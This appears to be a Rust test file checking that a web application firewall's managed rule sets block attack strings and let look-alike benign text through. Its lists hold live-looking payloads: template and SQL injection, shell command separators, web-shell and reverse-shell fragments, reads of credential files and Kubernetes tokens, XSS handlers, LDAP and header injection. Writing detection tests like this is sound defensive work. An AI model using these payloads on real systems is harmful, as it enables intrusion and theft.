        "{% import os %}{{os.system('id')}}",
        "<%import os%>${os.system('id')}",
        "<%= system('id') %>",
        "{{#with \"s\" as |string|}}",
        "${{<%[%'\"}}%\\.",
        // Unix and Windows commands after a separator.
        "; id",
        "& id",
        "x&&id&&y",
        "\r\nid",
        ";ps aux",
        ";ip addr",
        "; sleep 10",
        "; id # CVE-2025-0001",
        ";$'\\151\\144'",
        "; waitfor /t 5 pause",
        "; choice /t 5 /d y",
        "name`id`",
        // PHP used as PHP.
        "<?php echo shell_exec($_GET['c']); ?>",
        "chr(115).chr(121).chr(115)",
        "$r = new ReflectionFunction('system');",
        ";phpinfo();",
        // Web shells: request parameters into command, file and code APIs.
        "szCMD = Request.Form(\"cmd\")",
        "<%execute request(\"cmd\")%>",
        "Response.Write(oExec.StdOut.ReadAll)",
        "ProcessStartInfo psi = new ProcessStartInfo();",
        "Response.Write(p.StandardOutput.ReadToEnd());",
        "Set objFile = objFSO.CreateTextFile(Request.Form(\"filename\"))",
        "File.WriteAllText(Request[\"file\"], Request[\"content\"]);",
        "String cmd = request.getParameter(\"cmd\");",
        "ResultSet rs = stmt.executeQuery(request.getParameter(\"query\"));",
        "my $cmd = $cgi->param('cmd');",
        "open(CMD,\"$input|\");while(<CMD>){print}",
        "open(STDOUT,\">&S\");",
        "os.dup2(s.fileno(),0)",
        "__import__('os').system('id')",
        "import subprocess;subprocess.call(request.args.get('cmd'),shell=True)",
        "return (os.system, ('whoami',))",
        "    $c->render(text => `$cmd`);",
        // Files asked for where a path starts.
        "/etc/hosts",
        "../../etc/hosts",
        "file=/var/log/apache2/access.log",
        "cat /etc/passwd",
        "ll /var/www/",
        "/home/user/.bashrc",
        "/var/run/secrets/kubernetes.io/serviceaccount/token",
        "index.phps",
        "..\u{efc8}..\u{efc8}boot.ini",
        "    cmd = conn.recv(1024).decode()",
        "@{[ system 'id' ]}",
        "{% if True %}49{% endif %}",
        "IF NOT red===red echo test",
        "if [AA] == [AA] echo same",
        "pi<()ng 127.0.0.1",
        "| id",
        "x;id;",
    ] {
        check_detect(attack, true);
    }
    for benign in [
        // Template text, Markdown and Python that look like the above.
        "{{ success.perform }} Instead manage likely already contain",
        "{% if seat %}Story camera rich answer{% endif %}",
        "{% $DIRECTION %}",
        "{{#each guns}}<li>{{this}}</li>{{/each}}",
        "{{ call.call }} and {{ user.name }}",
        "<%= title %>",
        "Price: ${price.total}",
        "See set_charset() for details.",
        "This is the `maintype' part of the string returned by get_content_type().",
        "rawparam = msg.get_param('foo')",
        "\"print()\" can also be used",
        "'1 2 3'.split(maxsplit=1)",
        "modes[char] = max(items, key=lambda x: x[1])",
        "digest = hashlib.md5(data).hexdigest()",
        "if day == 0:",
        "if len(delims) == 1:",
        "if key[0] == \"$\":",
        "If defined, called to implement \"isinstance(instance, class)\".",
        "Attribute references ********************",
        "This is a wrapper for `dfunc`, which is typically either unified_diff() or context_diff().",
        "lines originating from file 1 or 2 (parameter `which`), stripping off line",
        "Travel person move beautiful government over hit with `cat` and `update`.",
        "The `id` header Matter strong require growth.",
        "Protect population leader mean food school with `echo` and `$PATH`.",
        "Position you happen hotel Mr or ability:\n\n```\nexec discuss\n```",
        "Letter good meeting:\n\n```\ntrue day\n```",
        "> example.py(3)<module>() -> pass (Pdb) display lst[:]",
        "Some rich point someone speech with `/etc/hosts` and `None`.",
        "GET nation /etc/hosts: College physical theory",
        "If loaded from a file, they are written as \"<module 'os' from '/usr/local/lib/pythonX.Y/os.pyc'>\".",
        "file: Either the path to the file, or a file-like object.",
        "Add the alias to your ~/.bashrc and reload it.",
        "Mount it under /var/run/secrets in the pod spec.",
        "def reset(self):",
        "if a == b and c:",
        "assert np.array_equal(a, b)",
        "items = items ?? new();",
        "https://api.example.com/v1?api.key=abc",
        // Form values and prose.
        "Passport & ID",
        "| ID | Name | Email |",
        "Please run the request(s) again",
        "Edit /etc/hosts and add the line",
        "Tom & Jerry; cats & dogs",
        "Please read; then sign",
        "import os",
        "    }",
        "<%",
    ] {
        check_detect(benign, false);
    }
}

/// A WebACL holding one of the managed rule groups.
fn group_acl(group: &str) -> WebAcl {
    let json = format!(
        r#"{{"Name":"t","DefaultAction":{{"Allow":{{}}}},"Rules":[{{"Name":"g","Priority":1,
        "OverrideAction":{{"None":{{}}}},
        "Statement":{{"ManagedRuleGroupStatement":{{"VendorName":"AWS","Name":"{group}"}}}},
        "VisibilityConfig":{{"SampledRequestsEnabled":true,"CloudWatchMetricsEnabled":false,"MetricName":"g"}}}}]}}"#
    );
    WebAcl::from_json(&json).unwrap_or_else(|e| panic!("{group}: {e}"))
}

/// Documentation and source code quote words, join them with `or`/`and`, call functions on
/// numbers and strings and assign calls to names; an injection leaves a literal and goes on with
/// a condition (a comparison, a comment, the end of the value), a call with SQL's arguments or a
/// statement. The look-alikes pass everywhere; the injections of the same shape block.
#[test]
fn sqli_technique_not_ingredients() {
    for benign in [
        "ctype should be either \"text/plain\" or \"message/rfc822\", although this is not enforced.",
        "Data descriptors with \"__get__()\" and \"__set__()\" (and/or \"__delete__()\") defined always override it.",
        "\"x == y\" and \"not x != y\"",
        "Containers are *sequences* (such as \"lists\" or \"tuples\") or *mappings*.",
        "ok = key == \"expires\" and isinstance(value, int)",
        "length 'self.width' or less.  (If 'break_long_words' is false,",
        "'replace': a[i1:i2] should be replaced by b[j1:j2]",
        "\"Drop\" Like New Camera",
        "New in Python 2.5, it's guaranteed that if (i, j, n) and (i', j', n') are adjacent",
        "The `SELECT * FROM users` header is shown",
        "w = max(2, w)",
        "chunkLength = min(10, len(data))",
        "delim = max(delims, key=delims.get)",
        "lineterm = decode(lineterm)",
        "return quote(string, safe, encoding, errors)",
        "def decode(self, encoding='ascii', errors='strict'):",
        "url, fragment = url.split('#', 1)",
        "yield from repeat(0, days_before)",
        "char = chr(uni)",
        "Return weekday (0-6 ~ Mon-Sun) and number of days (28-31) for year, month.",
        "n = n.replace('#', '')",
        "Meet at 'Delay Lane' or 'Exec Court'",
        "';'        #  0x3B -> SEMICOLON",
        "'----------------\\n'",
        "\"#dep\": {",
        "[`--print`]: #-p---print-script",
        "// 2. Lookup @@isConcatSpreadable property on `%Object.prototype%`",
        "#[cfg(feature = \"glob\")]",
        "Emitted from `EventEmitter`.",
        "* `RegExp` method",
        "fix EventTarget benchmark (Brian White)",
        "async def sleep(delay, result=None):",
        "console.log(",
        "err.foo = 'bar';",
        "if (err) throw err;",
        "if (e.code === 'EADDRINUSE') {",
        "def insert(self, i, item):",
        "return string.replace(' ', '+')",
    ] {
        // Other groups may well read code as PHP or a shell line: the SQL rules must not.
        let sql = group_acl("AWSManagedRulesSQLiRuleSet");
        for place in PLACES {
            let rule = blocked_at(&sql, place, benign);
            assert!(rule.is_none(), "{benign:?} in {place:?}: {rule:?}");
        }
    }
    for attack in [
        "admin\" or \"x\"=\"x",
        "' or 'a'='a",
        "') or ('a'='a",
        "1' or 1=1 --",
        "' or true--",
        "' or sleep(5)#",
        "' or (EXISTS)",
        "x' or username like 'a%",
        "admin' or '1",
        "admin@example.com\\' or json (id);",
        "'  or 3,4,2@!",
        "1 and if(1=1,sleep(5),0)",
        "' alter/",
        "1' PROCEDURE ANALYSE(",
        "except values(1,2)",
        "${@print(chr(122).chr(97).chr(112))}",
        "9999 or length((select 1))>0",
        "1 WAITFOR DELAY '0:0:5'",
        "' or '' '",
        "or true--",
        "' OR",
        "'; return true; var x='",
        "user'collate nocase--",
        "'glob 1;",
        "benchmark(",
        "SeleCT sLeEp (mOD(10,5))",
        "' or @@version--",
        "\"-->'-->`--><!--#echo var=\"x\"-->",
        "1' and starts_with(password) and 'true",
        "x' or lower(name) or 'a",
    ] {
        check_detect(attack, true);
    }
}

/// Event handlers set off by `/`, `+` (a form-encoded space), tabs and line breaks; LDAP filters
/// and header lines in every place (a header or a cookie never holds a line break of its own).
#[test]
fn handlers_ldap_and_header_breaks_everywhere() {
    for attack in [
        "<a\nOnMouseOver+=+[8].find(confirm)\rx>",
        "<D3V/+/onPointerEnter+=+a=prompt,a()>",
        "<html\tonmouseover+=+[8].find(confirm)>",
        "*)(uid=*))(|(uid=*",
        "admin)(|(*",
        "admin)(*",
        "admin)(!)",
        "*)(userPassword=*",
    ] {
        check_detect(attack, true);
    }
    for attack in [
        "\r\nSet-Cookie: injected",
        "\nSet-Cookie: no-cache",
        "\u{10d}\u{10a}Set-Cookie:admin=true",
        "\r\nX-Content-Type-Options:",
    ] {
        check_detect_at(
            attack,
            &[Place::Query, Place::Path, Place::Cookie, Place::Header],
            true,
        );
    }
    // Markup and code that only look like script: the Common rule set lets them through.
    let common = group_acl("AWSManagedRulesCommonRuleSet");
    for benign in [
        "M = self[key]",
        "Use certain off dog `eval` Relate show white",
        "expression_list ::= expression (\",\" expression)* [\",\"]",
    ] {
        for place in PLACES {
            let rule = blocked_at(&common, place, benign);
            assert!(rule.is_none(), "{benign:?} in {place:?}: {rule:?}");
        }
    }
    for attack in [
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "self['alert'](1)",
        "alert\"](1)>",
        "ale\"+\"rt\"](1) x=\"",
        "alert`1`",
        "<div style=\"width: expression(alert(1))\">",
    ] {
        check_detect(attack, true);
    }
    for benign in [
        "<a href=\"/docs\" class=\"button\">Read more</a>",
        "one+one=two",
        "the cron+=1 counter",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)",
        "see section 5(a)(1) of the contract",
        "(admin) (optional)",
    ] {
        check_detect(benign, false);
    }
    // In a body, a `Set-Cookie:` line holding one token is a forged header; a textarea's
    // lines that talk about it pass.
    check_detect_at(
        "\r\nSet-Cookie: injected",
        &[Place::Form, Place::Json],
        true,
    );
    check_detect_at(
        "Dear team,\r\nSet-Cookie: is the header in the trace\r\nthanks",
        &[Place::Form, Place::Json],
        false,
    );
}
